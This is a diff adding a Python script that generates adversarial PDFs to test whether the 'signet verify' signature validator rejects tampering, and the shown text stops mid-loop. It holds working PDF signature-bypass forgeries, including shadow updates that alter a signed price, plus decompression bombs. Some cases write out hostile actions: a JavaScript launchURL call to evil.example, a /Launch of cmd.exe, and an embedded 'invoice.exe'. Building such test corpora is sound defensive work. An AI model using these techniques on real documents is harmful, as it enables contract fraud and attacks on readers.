@@ -1,0 +1,692 @@
+#!/usr/bin/env python3
+"""Adversarial review of `signet verify`: attack generators beyond make_corpus.py.
+
+    python3 Tools/verify-corpus/review_attacks.py OUTDIR [--signet PATH]
+
+Each generator writes one PDF into OUTDIR and states what a careful validator must answer
+("reject" = exit 3, "accept" = exit 0). The script then runs `signet verify --ca root.pem --json`
+on every file and prints a table: expected, signet's exit, level, first changes, and MISMATCH where
+signet gets it wrong. Reuses make_corpus.py's PKI, base document, signing and update helpers.
+"""
+import hashlib
+import json
+import os
+import re
+import subprocess
+import sys
+import time
+import zlib
+from io import BytesIO
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import make_corpus as mc  # noqa: E402
+from make_corpus import (ACROFORM, CATALOG, CONTENT1, CONTENT2, FONT_F1, FONT_HELV, INFO, PAGE1, PAGE2,  # noqa: E402
+                         PAGES, SIG_FIELD, TEXT_FIELD, TEXT_FIELD_AP, append_update, annots_plus, base_objects,
+                         last_startxref, next_num, stream, with_entries)
+from pyhanko.sign.fields import MDPPerm  # noqa: E402
+
+CASES = []
+
+
+def case(expect, note=""):
+    def wrap(fn):
+        CASES.append((fn.__name__, expect, note, fn))
+        return fn
+    return wrap
+
+
+# ---------------------------------------------------------------------------------------------
+# Base documents with extra objects (xref table or stream), signed with pyHanko.
+# ---------------------------------------------------------------------------------------------
+
+def write_objs(objs, kind="table", compressed=None, extra_rows=None):
+    """A complete PDF of `objs` ({num: body}). compressed: {num: (stream, index)} type-2 rows
+    written into the xref stream for objects that are not written at all (kind='stream')."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for num in sorted(objs):
+        offsets[num] = len(out)
+        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
+    doc_id = hashlib.md5(bytes(out)).hexdigest().encode()
+    trailer = b"/Root %d 0 R /Info %d 0 R /ID [<%s> <%s>]" % (CATALOG, INFO, doc_id, doc_id)
+    size = max(list(objs) + list(compressed or {})) + 1
+    xref_at = len(out)
+    if kind == "table":
+        out += b"xref\n0 %d\n0000000000 65535 f\r\n" % size
+        for num in range(1, size):
+            out += b"%010d 00000 n\r\n" % offsets[num] if num in offsets else b"0000000000 00001 f\r\n"
+        out += b"trailer\n<< /Size %d %s >>\n" % (size, trailer)
+    else:
+        offsets[size] = xref_at
+        rows = b""
+        for n in range(size + 1):
+            if n in offsets:
+                rows += bytes([1]) + offsets[n].to_bytes(4, "big") + (0).to_bytes(2, "big")
+            elif compressed and n in compressed:
+                s, i = compressed[n]
+                rows += bytes([2]) + s.to_bytes(4, "big") + i.to_bytes(2, "big")
+            else:
+                rows += bytes([0]) + (0).to_bytes(4, "big") + (0 if n == 0 else 1).to_bytes(2, "big")
+        out += b"%d 0 obj\n" % size + stream(rows, b"/Type /XRef /Size %d /W [1 4 2] %s" % (size + 1, trailer)) \
+            + b"\nendobj\n"
+    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
+    return bytes(out)
+
+
+def objstm(members):
+    """An object stream body holding {num: body}."""
+    header, data = b"", b""
+    for num, body in members.items():
+        header += b"%d %d " % (num, len(data))
+        data += body + b"\n"
+    return stream(header + data, b"/Type /ObjStm /N %d /First %d" % (len(members), len(header)))
+
+
+PKI = None
+
+
+def signed(objs=None, kind="table", certify=False, perm=MDPPerm.FILL_FORMS, **kw):
+    return mc.sign(write_objs(objs or base_objects(), kind, **kw), PKI, certify=certify, perm=perm)
+
+
+OVERLAY_TEXT = b"1 1 1 rg 66 640 300 28 re f 0 g BT /F1 12 Tf 72 650 Td (The buyer pays 900 EUR.) Tj ET\n"
+PAGE1_CONTENT_900 = stream(b"BT /F1 24 Tf 72 730 Td (Purchase contract) Tj ET\nBT /F1 12 Tf 72 650 Td (The buyer pays 900 EUR.) Tj ET\n")
+
+
+def same_length(body_old: bytes, body_new: bytes) -> bytes:
+    assert len(body_new) <= len(body_old)
+    return body_new + b" " * (len(body_old) - len(body_new))
+
+
+# ---------------------------------------------------------------------------------------------
+# Structure: revisions the analysis does not see.
+# ---------------------------------------------------------------------------------------------
+
+@case("reject", "content change in an update whose startxref points back at the signed section")
+def split_startxref(out):
+    data = signed()
+    rev1_xref = last_startxref(data)
+    rev2 = append_update(data, {CONTENT1: PAGE1_CONTENT_900})
+    a_at = last_startxref(rev2)
+    # revision 2 names the signed section in its startxref: opened alone, it looks unchanged
+    rev2 = rev2[:rev2.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % rev1_xref
+    size = int(re.findall(rb"/Size (\d+)", rev2)[-1])
+    ids = re.findall(rb"/ID \[(<[0-9a-fA-F]+>) *(<[0-9a-fA-F]+>)\]", rev2)[-1]
+    b_at = len(rev2)
+    rev3 = rev2 + (b"xref\n0 1\n0000000000 65535 f\r\ntrailer\n<< /Size %d /Root 1 0 R /Info 9 0 R /ID [%s %s] /Prev %d >>\n"
+                   b"startxref\n%d\n%%%%EOF\n" % (size, ids[0], ids[1], a_at, b_at))
+    return rev3
+
+
+@case("reject", "revision 2 ends with a bare %%EOF (no startxref): opened alone, qpdf reads revision 1")
+def split_no_startxref(out):
+    data = signed()
+    rev2 = append_update(data, {CONTENT1: PAGE1_CONTENT_900})
+    a_at = last_startxref(rev2)
+    rev2 = rev2[:rev2.rindex(b"startxref")] + b"%%EOF\n"
+    size = int(re.findall(rb"/Size (\d+)", rev2)[-1])
+    ids = re.findall(rb"/ID \[(<[0-9a-fA-F]+>) *(<[0-9a-fA-F]+>)\]", rev2)[-1]
+    b_at = len(rev2)
+    return rev2 + (b"xref\n0 1\n0000000000 65535 f\r\ntrailer\n<< /Size %d /Root 1 0 R /Info 9 0 R /ID [%s %s] /Prev %d >>\n"
+                   b"startxref\n%d\n%%%%EOF\n" % (size, ids[0], ids[1], a_at, b_at))
+
+
+@case("reject", "signed doc: page 1 uses ExtGState /G1 = obj 30, a compressed entry in object stream 50 that does "
+                "not exist (null); the update adds object stream 50 where 30 = << /ca 0 >>: the price turns invisible")
+def objstm_dangling_member(out):
+    objs = base_objects()
+    objs[CONTENT1] = stream(b"BT /F1 24 Tf 72 730 Td (Purchase contract) Tj ET\n/G1 gs BT /F1 12 Tf 72 650 Td (The buyer pays 100 EUR.) Tj ET\n")
+    objs[PAGE1] = objs[PAGE1].replace(b"/Font << /F1 7 0 R >>", b"/Font << /F1 7 0 R >> /ExtGState << /G1 30 0 R >>")
+    data = signed(objs, kind="stream", compressed={30: (50, 0)})
+    return append_update(data, {50: objstm({30: b"<< /Type /ExtGState /ca 0 /CA 0 >>"})})
+
+
+@case("reject", "update redefines object 12 (page content) with generation 1 and page->'12 1 R' is NOT changed; "
+                "control for generation handling")
+def generation_bump(out):
+    data = signed()
+    upd = append_update(data, {CONTENT1: PAGE1_CONTENT_900})
+    # rewrite the new object header and its xref entry to generation 1
+    at = upd.rindex(b"\n12 0 obj") + 1
+    upd = upd[:at] + b"12 1 obj" + upd[at + 8:]
+    xref = upd.rindex(b"xref\n")
+    tail = upd[xref:]
+    tail = re.sub(rb"(%010d) 00000 n" % at, rb"\1 00001 n", tail)
+    return upd[:xref] + tail
+
+
+@case("reject", "update redefines only the object stream that holds page 1's content (members' entries unchanged)")
+def objstm_redefined(out):
+    objs = base_objects()
+    content = objs.pop(CONTENT1)
+    # page content cannot be in an object stream (streams are never compressed): put the font there
+    font = objs.pop(FONT_F1)
+    objs[50] = objstm({FONT_F1: font})
+    objs[CONTENT1] = content
+    data = signed(objs, kind="stream", compressed={FONT_F1: (50, 0)})
+    evil_font = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding "
+                 b"/BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")
+    return append_update(data, {50: objstm({FONT_F1: evil_font})})
+
+
+@case("reject", "compressed entry: xref says obj 7 is index 5 of object stream 51 that holds a *different* obj 7")
+def objstm_index_elsewhere(out):
+    data = signed(kind="stream")
+    evil_font = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding "
+                 b"/BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")
+    n = next_num(data)
+    upd = append_update(data, {n: objstm({FONT_F1: evil_font})})
+    # turn the entry of the new object stream's member into a compressed entry for object 7
+    return _add_compressed_entry(upd, FONT_F1, n, 5)
+
+
+def _add_compressed_entry(data, num, stm, index):
+    """Re-append the last update's xref stream with one more type-2 row."""
+    xref_at = last_startxref(data)
+    m = re.match(rb"(\d+) 0 obj\n<<(.*?)/Length (\d+) >>\nstream\n", data[xref_at:], re.S)
+    xnum, dict_text, length = int(m.group(1)), m.group(2), int(m.group(3))
+    rows = data[xref_at + m.end():xref_at + m.end() + length]
+    index_m = re.search(rb"/Index \[([\d ]+)\]", dict_text)
+    idx = [int(x) for x in index_m.group(1).split()]
+    entries = []
+    pos = 0
+    for i in range(0, len(idx), 2):
+        for k in range(idx[i], idx[i] + idx[i + 1]):
+            entries.append((k, rows[pos:pos + 7]))
+            pos += 7
+    entries.append((num, bytes([2]) + stm.to_bytes(4, "big") + index.to_bytes(2, "big")))
+    entries.sort()
+    new_index = b" ".join(b"%d 1" % k for k, _ in entries)
+    new_rows = b"".join(r for _, r in entries)
+    dict_text = dict_text.replace(index_m.group(0), b"/Index [" + new_index + b"]")
+    body = b"<<" + dict_text + b"/Length %d >>\nstream\n" % len(new_rows) + new_rows + b"\nendstream"
+    return data[:xref_at] + b"%d 0 obj\n" % xnum + body + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
+
+
+@case("reject", "hybrid update: /XRefStm stream gives obj 12 (content) a new definition the table lists as free")
+def hybrid_xrefstm(out):
+    data = signed()
+    upd = append_update(data, {INFO: with_entries(data, INFO, Title=b"(hybrid)")}, xref="table")
+    # add: new object 12 and an xref stream holding it, referenced by /XRefStm from the table trailer
+    xref_at = last_startxref(upd)
+    head = upd[:xref_at]
+    table = upd[xref_at:upd.rindex(b"startxref")]
+    obj_at = len(head)
+    head += b"12 0 obj\n" + PAGE1_CONTENT_900 + b"\nendobj\n"
+    xs_num = 60
+    xs_at = len(head)
+    rows = bytes([1]) + obj_at.to_bytes(4, "big") + (0).to_bytes(2, "big") + \
+        bytes([1]) + xs_at.to_bytes(4, "big") + (0).to_bytes(2, "big")
+    head += b"%d 0 obj\n" % xs_num + stream(rows, b"/Type /XRef /Size 61 /W [1 4 2] /Index [12 1 60 1]") + b"\nendobj\n"
+    new_xref = len(head)
+    table = table.replace(b"trailer\n<< /Size %d" % int(re.findall(rb"/Size (\d+)", table)[-1]),
+                          b"trailer\n<< /Size 61 /XRefStm %d" % xs_at)
+    return head + table + b"startxref\n%d\n%%%%EOF\n" % new_xref
+
+
+# ---------------------------------------------------------------------------------------------
+# Role classification.
+# ---------------------------------------------------------------------------------------------
+
+@case("reject", "a form XObject drawn by page 1 is also listed in the AcroForm /DR; its stream data "
+                "(same /Length) redefined to say 900 EUR")
+def dr_shared_xobject_stream(out):
+    objs = base_objects()
+    x = b"BT /F1 12 Tf 0 0 Td (The buyer pays 100 EUR.) Tj ET"
+    objs[20] = stream(x, b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /F1 %d 0 R >> >>" % FONT_F1)
+    objs[CONTENT1] = stream(b"BT /F1 24 Tf 72 730 Td (Purchase contract) Tj ET\nq 1 0 0 1 72 620 cm /X1 Do Q\n")
+    objs[PAGE1] = objs[PAGE1].replace(b"/Font << /F1 7 0 R >>", b"/Font << /F1 7 0 R >> /XObject << /X1 20 0 R >>")
+    objs[ACROFORM] = objs[ACROFORM].replace(b"/DR << /Font << /Helv 8 0 R >>", b"/DR << /Font << /Helv 8 0 R >> /XObject << /X1 20 0 R >>")
+    data = signed(objs)
+    new = same_length(x, b"BT /F1 12 Tf 0 0 Td (The buyer pays 900 EUR.) Tj ET")
+    return append_update(data, {20: stream(new, b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /F1 %d 0 R >> >>" % FONT_F1)})
+
+
+@case("reject", "page 1's content stream is also listed under /Info (/Thumb): its data replaced, same /Length")
+def info_shared_content(out):
+    objs = base_objects()
+    objs[INFO] = b"<< /Title (Signet) /Producer (review) /Thumb %d 0 R >>" % CONTENT1
+    data = signed(objs)
+    old = mc.PAGE1_TEXT
+    new = same_length(old, old.replace(b"100 EUR", b"900 EUR"))
+    return append_update(data, {CONTENT1: stream(new)})
+
+
+@case("reject", "page 2 /Contents and /Annots are the same array object; the update appends a stream that is "
+                "page content (overlay) and also a hidden /Text annotation")
+def shared_contents_annots_array(out):
+    objs = base_objects()
+    objs[40] = b"[%d 0 R]" % CONTENT2
+    objs[mc.PAGE2] = objs[mc.PAGE2].replace(b"/Contents %d 0 R" % CONTENT2, b"/Contents 40 0 R /Annots 40 0 R")
+    data = signed(objs)
+    n = next_num(data)
+    overlay = stream(b"1 1 1 rg 66 710 400 28 re f 0 g BT /F1 12 Tf 72 720 Td (Page 2: delivery within 300 days.) Tj ET",
+                     b"/Type /Annot /Subtype /Text /Rect [0 0 0 0] /F 2")
+    return append_update(data, {n: overlay, 40: b"[%d 0 R %d 0 R]" % (CONTENT2, n)})
+
+
+@case("reject", "control: page 2 /Contents array doubles as a field group's /Kids (certified P=2); "
+                "overlay stream added that is also an empty signature field")
+def shared_contents_fields_array(out):
+    objs = base_objects()
+    objs[40] = b"[%d 0 R]" % CONTENT2
+    objs[mc.PAGE2] = objs[mc.PAGE2].replace(b"/Contents %d 0 R" % CONTENT2, b"/Contents 40 0 R")
+    # the form's /Fields is an array [10 11]; page 2's content array doubles as a field-list branch: a
+    # non-terminal field whose /Kids is the content array
+    objs[41] = b"<< /T (grp) /Kids 40 0 R >>"
+    objs[ACROFORM] = objs[ACROFORM].replace(b"/Fields [10 0 R 11 0 R]", b"/Fields [10 0 R 11 0 R 41 0 R]")
+    data = signed(objs, certify=True, perm=MDPPerm.FILL_FORMS)
+    n = next_num(data)
+    overlay = stream(b"1 1 1 rg 66 710 400 28 re f 0 g BT /F1 12 Tf 72 720 Td (Page 2: delivery within 300 days.) Tj ET",
+                     b"/FT /Sig /T (s2) /Parent 41 0 R")
+    return append_update(data, {n: overlay, 40: b"[%d 0 R %d 0 R]" % (CONTENT2, n)})
+
+
+@case("reject", "page 1 /Parent is an orphan /Pages node (not in the tree) holding inherited /Rotate; "
+                "the update rotates the page via that node (pdf.js/MuPDF follow /Parent)")
+def orphan_parent_inherited(out):
+    objs = base_objects()
+    objs[PAGE1] = objs[PAGE1].replace(b"/Parent 2 0 R", b"/Parent 60 0 R")
+    objs[60] = b"<< /Type /Pages /Kids [4 0 R] /Count 1 /Parent 2 0 R >>"
+    data = signed(objs)
+    return append_update(data, {60: b"<< /Type /Pages /Kids [4 0 R] /Count 1 /Parent 2 0 R /Rotate 180 "
+                                     b"/CropBox [0 600 300 792] >>"})
+
+
+def base_with_link():
+    objs = base_objects()
+    objs[30] = b"<< /Type /Annot /Subtype /Link /Rect [72 640 300 670] /Border [0 0 0] /A << /S /URI /URI (https://example.com/terms) >> >>"
+    objs[31] = b"<< /Type /Annot /Subtype /Text /Rect [400 700 420 720] /Contents (note) /F 4 >>"
+    objs[mc.PAGE2] = objs[mc.PAGE2].replace(b"/Contents", b"/Annots [30 0 R 31 0 R] /Contents")
+    return objs
+
+
+@case("reject", "an existing Link annotation's /A URI action rewritten into a JavaScript action")
+def link_action_to_js(out):
+    data = signed(base_with_link())
+    return append_update(data, {30: b"<< /Type /Annot /Subtype /Link /Rect [72 640 300 670] /Border [0 0 0] "
+                                     b"/A << /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\);) >> >>"})
+
+
+@case("reject", "an existing Link annotation's /A action changed to /Launch an executable")
+def link_action_to_launch(out):
+    data = signed(base_with_link())
+    return append_update(data, {30: b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] "
+                                     b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"})
+
+
+@case("reject", "an existing Text annotation turned into a FileAttachment with an embedded file (adding one is 'other')")
+def text_annot_to_fileattachment(out):
+    data = signed(base_with_link())
+    n = next_num(data)
+    return append_update(data, {
+        31: b"<< /Type /Annot /Subtype /FileAttachment /Rect [400 700 420 720] /F 4 /Name /PushPin "
+            b"/FS << /Type /Filespec /F (invoice.exe) /EF << /F %d 0 R >> >> >>" % n,
+        n: stream(b"MZ evil payload", b"/Type /EmbeddedFile")})
+
+
+@case("reject", "an existing Text annotation turned into a Screen/Widget-less /Subtype /Link with a JavaScript /A "
+                "(control: actions newly added)")
+def text_annot_add_action(out):
+    data = signed(base_with_link())
+    return append_update(data, {31: b"<< /Type /Annot /Subtype /Text /Rect [400 700 420 720] /F 4 "
+                                     b"/A << /S /JavaScript /JS (1) >> >>"})
+
+
+def base_with_field_js():
+    objs = base_objects()
+    objs[TEXT_FIELD] = objs[TEXT_FIELD].replace(b"/FT /Tx", b"/FT /Tx /AA 40 0 R")
+    objs[40] = b"<< /K 41 0 R /F 42 0 R >>"
+    objs[41] = b"<< /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, \"\", true\\);) >>"
+    objs[42] = b"<< /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >>"
+    return objs
+
+
+@case("reject", "certified P=2; the text field's (indirect) keystroke JavaScript action redefined")
+def field_js_action_redefined(out):
+    data = signed(base_with_field_js(), certify=True, perm=MDPPerm.FILL_FORMS)
+    return append_update(data, {41: b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\); "
+                                     b"this.getField\\('Buyer'\\).value='x';) >>"})
+
+
+@case("reject", "certified P=2; the text field's indirect /AA dictionary gains a /Fo (on focus) JavaScript action")
+def field_aa_dict_redefined(out):
+    data = signed(base_with_field_js(), certify=True, perm=MDPPerm.FILL_FORMS)
+    return append_update(data, {40: b"<< /K 41 0 R /F 42 0 R /Fo << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"})
+
+
+@case("reject", "certified P=2; the text field's /AA added directly (control)")
+def field_aa_added_direct(out):
+    data = signed(certify=True, perm=MDPPerm.FILL_FORMS)
+    return append_update(data, {TEXT_FIELD: with_entries(data, TEXT_FIELD, AA=b"<< /Fo << /S /JavaScript /JS (1) >> >>")})
+
+
+def base_locked(indirect_value=False):
+    objs = base_objects()
+    objs[SIG_FIELD] = objs[SIG_FIELD].replace(
+        b"/FT /Sig", b"/FT /Sig /Lock << /Type /SigFieldLock /Action /Include /Fields [(Buyer)] >>")
+    if indirect_value:
+        objs[TEXT_FIELD] = objs[TEXT_FIELD].replace(b"/V ()", b"/V 43 0 R")
+        objs[43] = b"(100 EUR)"
+    objs[TEXT_FIELD_AP] = stream(same_length(b"/Tx BMC BT /Helv 10 Tf 2 6 Td (100 EUR) Tj ET EMC" + b" " * 8,
+                                             b"/Tx BMC BT /Helv 10 Tf 2 6 Td (100 EUR) Tj ET EMC"),
+                                 b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /Helv 8 0 R >> >>")
+    return objs
+
+
+@case("reject", "FieldMDP lock on Buyer (approval signature): Buyer's appearance stream redefined in place to show 9999")
+def locked_field_ap_stream(out):
+    data = signed(base_locked())
+    return append_update(data, {TEXT_FIELD_AP: stream(
+        same_length(b"/Tx BMC BT /Helv 10 Tf 2 6 Td (100 EUR) Tj ET EMC" + b" " * 8, b"/Tx BMC BT /Helv 10 Tf 2 6 Td (9999 EUR) Tj ET EMC"),
+        b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /Helv 8 0 R >> >>")})
+
+
+@case("reject", "FieldMDP lock on Buyer (approval signature): Buyer's indirect /V object redefined")
+def locked_field_indirect_value(out):
+    data = signed(base_locked(indirect_value=True))
+    return append_update(data, {43: b"(9999 EUR)"})
+
+
+@case("reject", "FieldMDP lock on Buyer: /V changed directly (control)")
+def locked_field_direct_value(out):
+    data = signed(base_locked())
+    return append_update(data, {TEXT_FIELD: with_entries(data, TEXT_FIELD, V=b"(9999)")})
+
+
+@case("reject", "signed signature field: its widget's /AP stream (indirect) redefined (control)")
+def signed_sig_appearance(out):
+    objs = base_objects()
+    objs[SIG_FIELD] = objs[SIG_FIELD].replace(b"/Rect [0 0 0 0] /F 132", b"/Rect [300 60 560 100] /F 4 /AP << /N 44 0 R >>")
+    objs[44] = stream(b"BT /F1 10 Tf 4 20 Td (Signed by Alice) Tj ET", b"/Type /XObject /Subtype /Form /BBox [0 0 260 40] /Resources << /Font << /F1 7 0 R >> >>")
+    data = signed(objs)
+    ap = mc.latest(data, SIG_FIELD)["/AP"].raw_get("/N").idnum  # pyHanko regenerates the widget's appearance
+    return append_update(data, {ap: stream(b"BT /F1 10 Tf 4 20 Td (Signed by Mallory) Tj ET",
+                                           b"/Type /XObject /Subtype /Form /BBox [0 0 260 40] /Resources << /Font << /F1 7 0 R >> >>")})
+
+
+@case("reject", "XFA datasets stream (under /AcroForm /XFA) redefined, same length: changes what XFA viewers show")
+def xfa_datasets(out):
+    objs = base_objects()
+    ds = b"<xfa:datasets xmlns:xfa=\"http://www.xfa.org/schema/xfa-data/1.0/\"><xfa:data><Buyer>100 EUR</Buyer></xfa:data></xfa:datasets>"
+    objs[45] = stream(ds)
+    objs[ACROFORM] = objs[ACROFORM].replace(b"/DA (", b"/XFA [(datasets) 45 0 R] /DA (")
+    data = signed(objs, certify=True, perm=MDPPerm.NO_CHANGES)
+    return append_update(data, {45: stream(ds.replace(b"100 EUR", b"900 EUR"))})
+
+
+@case("reject", "certified P=1: the page's font program shared with /DR (Type3 glyph procedure '1' redrawn)")
+def dr_shared_type3_glyph(out):
+    objs = base_objects()
+    glyph = b"600 0 0 0 600 700 d1 0 0 m 600 0 l 600 700 l f"
+    objs[FONT_F1] = (b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 600 700] /FontMatrix [0.001 0 0 0.001 0 0] "
+                     b"/CharProcs << /one 46 0 R >> /Encoding << /Type /Encoding /Differences [49 /one] >> "
+                     b"/FirstChar 49 /LastChar 49 /Widths [600] /Resources << >> >>")
+    objs[46] = stream(glyph + b" " * 20)
+    objs[ACROFORM] = objs[ACROFORM].replace(b"/Helv 8 0 R", b"/Helv 8 0 R /F1 7 0 R")
+    data = signed(objs, certify=True, perm=MDPPerm.NO_CHANGES)
+    return append_update(data, {46: stream(same_length(glyph + b" " * 20, b"600 0 0 0 600 700 d1 0 350 m 600 350 l 600 700 l f"))})
+
+
+# ---------------------------------------------------------------------------------------------
+# Signatures.
+# ---------------------------------------------------------------------------------------------
+
+def visible_doc_timestamp(data, rect=(66, 640, 366, 668)):
+    """A document timestamp in a new *visible* field whose appearance paints over page 1's price."""
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+    from pyhanko.pdf_utils import generic as g
+    from pyhanko.sign import signers
+    w = IncrementalPdfFileWriter(BytesIO(data))
+    ap = g.StreamObject({g.NameObject("/Type"): g.NameObject("/XObject"), g.NameObject("/Subtype"): g.NameObject("/Form"),
+                         g.NameObject("/BBox"): g.ArrayObject([g.NumberObject(0), g.NumberObject(0), g.NumberObject(300), g.NumberObject(28)]),
+                         g.NameObject("/Resources"): g.DictionaryObject({g.NameObject("/Font"): g.DictionaryObject(
+                             {g.NameObject("/F1"): g.IndirectObject(FONT_F1, 0, w)})})},
+                        stream_data=b"1 1 1 rg 0 0 300 28 re f 0 g BT /F1 12 Tf 6 10 Td (The buyer pays 900 EUR.) Tj ET")
+    ap_ref = w.add_object(ap)
+    page = w.root["/Pages"]["/Kids"][0]
+    page_ref = w.root["/Pages"].raw_get("/Kids")[0]
+    widget = g.DictionaryObject({
+        g.NameObject("/FT"): g.NameObject("/Sig"), g.NameObject("/T"): g.TextStringObject("Timestamp"),
+        g.NameObject("/Type"): g.NameObject("/Annot"), g.NameObject("/Subtype"): g.NameObject("/Widget"),
+        g.NameObject("/Rect"): g.ArrayObject([g.NumberObject(v) for v in rect]), g.NameObject("/F"): g.NumberObject(4),
+        g.NameObject("/P"): page_ref, g.NameObject("/AP"): g.DictionaryObject({g.NameObject("/N"): ap_ref})})
+    wref = w.add_object(widget)
+    page["/Annots"].append(wref)
+    w.update_container(page)
+    form = w.root["/AcroForm"]
+    form["/Fields"].append(wref)
+    w.update_container(form)
+    stamper = signers.PdfTimeStamper(PKI.timestamper(), field_name="Timestamp")
+    return stamper.timestamp_pdf(w, "sha256").getvalue()
+
+
+@case("reject", "certified P=1, then a document timestamp in a new VISIBLE field that paints 900 EUR over the price")
+def visible_doc_timestamp_p1(out):
+    return visible_doc_timestamp(signed(certify=True, perm=MDPPerm.NO_CHANGES))
+
+
+@case("reject", "signature dictionary of Signature1 redefined later (/Reason and /M changed) (control)")
+def sigdict_redefined(out):
+    data = signed()
+    n = mc.signature_dict_num(data)
+    m = re.search(rb"(?:^|\n)%d 0 obj\s*(.*?)\s*endobj" % n, data, re.S)
+    body = m.group(1).replace(b"/Reason (corpus)", b"/Reason (forged)")
+    return append_update(data, {n: body})
+
+
+@case("reject", "a second widget added to the existing signed signature field (control)")
+def second_widget_signed_field(out):
+    data = signed()
+    n = next_num(data)
+    sig = mc.latest(data, SIG_FIELD)
+    vnum = sig.raw_get("/V").idnum
+    ap = n + 1
+    parent = (b"<< /FT /Sig /T (Signature1) /V %d 0 R /Kids [%d 0 R %d 0 R] >>" % (vnum, n + 2, n))
+    return append_update(data, {
+        n: b"<< /Type /Annot /Subtype /Widget /Parent %d 0 R /Rect [66 640 366 668] /F 4 /P 4 0 R /AP << /N %d 0 R >> >>" % (n + 3, ap),
+        ap: stream(b"1 1 1 rg 0 0 300 28 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 300 28]"),
+        n + 2: b"<< /Type /Annot /Subtype /Widget /Parent %d 0 R /Rect [0 0 0 0] /F 132 /P 4 0 R >>" % (n + 3),
+        n + 3: parent,
+        ACROFORM: with_entries(data, ACROFORM, Fields=b"[10 0 R %d 0 R]" % (n + 3)),
+        PAGE1: with_entries(data, PAGE1, Annots=b"[10 0 R %d 0 R %d 0 R]" % (n + 2, n)),
+    })
+
+
+@case("reject", "certification /Perms in the catalog repointed at a new P=3 DocMDP dict (control)")
+def perms_changed(out):
+    data = signed(certify=True, perm=MDPPerm.NO_CHANGES)
+    return append_update(data, {CATALOG: with_entries(data, CATALOG, Perms=b"<< >>")})
+
+
+# ---------------------------------------------------------------------------------------------
+# Resource exhaustion.
+# ---------------------------------------------------------------------------------------------
+
+@case("any", "deeply nested arrays (200k levels) in an object the update adds to /Info")
+def deep_nesting(out):
+    data = signed()
+    n = next_num(data)
+    return append_update(data, {n: b"[" * 200000 + b"]" * 200000, INFO: with_entries(data, INFO, Deep=b"%d 0 R" % n)})
+
+
+@case("any", "reference cycle: /Info -> a -> b -> a (and the Info self-referencing) with 10000 chained dicts")
+def cyclic_chain(out):
+    data = signed()
+    n = next_num(data)
+    objs = {n + i: b"<< /Next %d 0 R /Prev2 %d 0 R >>" % (n + i + 1, n + max(i - 1, 0)) for i in range(10000)}
+    objs[n + 10000] = b"<< /Next %d 0 R >>" % n
+    objs[INFO] = with_entries(data, INFO, Chain=b"%d 0 R" % n)
+    return append_update(data, objs)
+
+
+@case("any", "update's xref stream with /Index [1 2147483646] and /W [1 8 8]")
+def huge_index(out):
+    data = signed(kind="stream")
+    upd = append_update(data, {INFO: with_entries(data, INFO, Title=b"(big)")})
+    return upd.replace(b"/W [1 4 2]", b"/W [8 8 8]").replace(b"/Index [", b"/Index [1 2147483600 ", 1)
+
+
+@case("any", "update's xref stream: Flate bomb (64 MB of zeros) with PNG predictor rows")
+def flate_bomb(out):
+    data = signed(kind="stream")
+    upd = append_update(data, {INFO: with_entries(data, INFO, Title=b"(bomb)")})
+    xref_at = last_startxref(upd)
+    m = re.match(rb"(\d+) 0 obj\n<<(.*?)/Length (\d+) >>\nstream\n", upd[xref_at:], re.S)
+    comp = zlib.compress(b"\x02" + b"\x00" * 7 + (b"\x02" + b"\x00" * 7) * (60 << 20 // 8), 9)
+    d = m.group(2).replace(b"/Index [", b"/Index [0 7000000 ").replace(b"/Size", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >> /Size")
+    body = b"<<" + d + b"/Length %d >>\nstream\n" % len(comp) + comp + b"\nendstream"
+    return upd[:xref_at] + m.group(1) + b" 0 obj\n" + body + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
+
+
+@case("any", "300 chained updates each changing /Info (time)")
+def many_revisions(out):
+    data = signed()
+    for i in range(300):
+        data = append_update(data, {INFO: b"<< /Title (rev %d) >>" % i})
+    return data
+
+
+@case("any", "table xref with a million entries in the update")
+def million_entries(out):
+    data = signed()
+    upd = append_update(data, {INFO: with_entries(data, INFO, Title=b"(million)")})
+    xref_at = last_startxref(upd)
+    head = upd[:xref_at]
+    big = b"xref\n0 1000000\n" + b"0000000000 65535 f\r\n" + b"0000000000 00001 f\r\n" * 999999
+    rest = upd[xref_at:]
+    tr = rest[rest.index(b"trailer"):rest.index(b"startxref")]
+    info_at = head.rindex(b"\n9 0 obj") + 1
+    big += b"9 1\n%010d 00000 n\r\n" % info_at
+    return head + big + tr.replace(b"/Size 18", b"/Size 1000000") + b"startxref\n%d\n%%%%EOF\n" % xref_at
+
+
+@case("any", "stray 'startxref N' comments in an update name 40 decoy xref streams, each a Flate bomb "
+             "(60 MB of PNG-predictor rows); signet parses every startxref target")
+def stray_startxref_bombs(out):
+    data = signed()
+    n = next_num(data)
+    rows = (b"\x02" + b"\x00" * 7) * ((60 << 20) // 8)
+    comp = zlib.compress(rows, 9)
+    objs = {}
+    for i in range(40):
